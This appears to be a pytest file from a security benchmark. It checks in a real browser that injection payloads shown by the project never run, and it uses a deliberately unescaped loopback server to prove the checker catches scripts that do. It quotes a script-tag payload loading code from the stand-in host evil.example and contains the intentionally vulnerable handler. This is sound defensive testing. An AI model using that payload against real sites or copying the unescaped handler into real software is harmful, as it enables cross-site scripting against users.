"""What a script would do in a real browser: a few of the payloads (all of them in `python -m bench injections`)."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from bench.injections import looked
from tests.hostile_texts import PAYLOADS
from tests.looking_harmed import look

pytestmark = pytest.mark.browser

SOME = PAYLOADS[5::65]


def test_nothing_that_is_written_at_the_desk_runs(tmp_path, browser):
    harm, injected = looked(browser, tmp_path, SOME)

    assert harm.pages > 10 * len(injected)
    assert (harm.ran, harm.foreign, harm.broken) == ([], [], [])


def test_a_guide_that_let_scripts_in_would_be_seen(careless, browser):
    calling = PAYLOADS.index("<script src=//evil.example/x.js></script>")
    harm = look(browser, careless, [f"/{number}" for number in (*range(0, len(PAYLOADS), 10), calling)])

    assert len(harm.ran) >= 10
    assert harm.foreign


@pytest.fixture
def careless() -> Iterator[str]:
    """A site of loopback that shows each payload as it is."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Careless)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


class Careless(BaseHTTPRequestHandler):
    """Escapes nothing."""

    def do_GET(self) -> None:
        asked = self.path.strip("/")
        shown = PAYLOADS[int(asked)] if asked.isdecimal() else ""
        body = f"<!doctype html><meta charset=utf-8><main>{shown}</main>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_told: object) -> None:
        """Says nothing."""
